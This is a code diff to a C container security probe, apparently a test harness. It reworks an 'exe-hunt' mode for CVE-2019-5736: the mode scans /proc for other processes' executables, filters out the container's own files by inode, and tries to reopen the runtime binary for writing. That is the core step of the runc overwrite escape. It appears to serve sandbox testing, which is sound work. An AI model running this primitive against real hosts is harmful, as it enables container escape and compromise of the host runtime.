@@ -42,7 +42,9 @@ sec_build_probe() {
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mount.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
+#include <time.h>
 #include <unistd.h>
 
 static int report(long rc)
@@ -79,10 +81,12 @@ int main(int argc, char **argv)
         puts("");
         return 0;
     }
-    /* CVE-2019-5736: watch for any other process and try to open its exe for writing. */
+    /* CVE-2019-5736: for N seconds, watch every other process and try to open its exe for
+     * writing. */
     if (!strcmp(c, "exe-hunt")) {
-        int self = getpid(), tries = a ? (int)a : 2000;
-        for (int i = 0; i < tries; i++) {
+        int self = getpid();
+        time_t end = time(NULL) + (a ? a : 10);
+        while (time(NULL) < end) {
             DIR *d = opendir("/proc");
             struct dirent *e;
             while (d && (e = readdir(d))) {
@@ -92,6 +96,21 @@ int main(int argc, char **argv)
                 snprintf(p, sizeof(p), "/proc/%d/exe", pid);
                 int fd = open(p, O_PATH);
                 if (fd < 0) continue;
+                /* A file of the container itself (same inode at the path the link names) may
+                 * be written by its root: only other files, the runtime's binary, count. */
+                char target[512];
+                struct stat a, b;
+                ssize_t tl = readlink(p, target, sizeof(target) - 1);
+                if (tl > 0) target[tl] = 0;
+                if (tl > 0 && fstat(fd, &a) == 0 && stat(target, &b) == 0 && a.st_dev == b.st_dev &&
+                    a.st_ino == b.st_ino) {
+                    printf("seen-exe %s\n", target);
+                    fflush(stdout);
+                    close(fd);
+                    continue;
+                }
+                printf("host-exe %s\n", tl > 0 ? target : p);
+                fflush(stdout);
                 char w[64];
                 snprintf(w, sizeof(w), "/proc/self/fd/%d", fd);
                 for (int k = 0; k < 200; k++) {
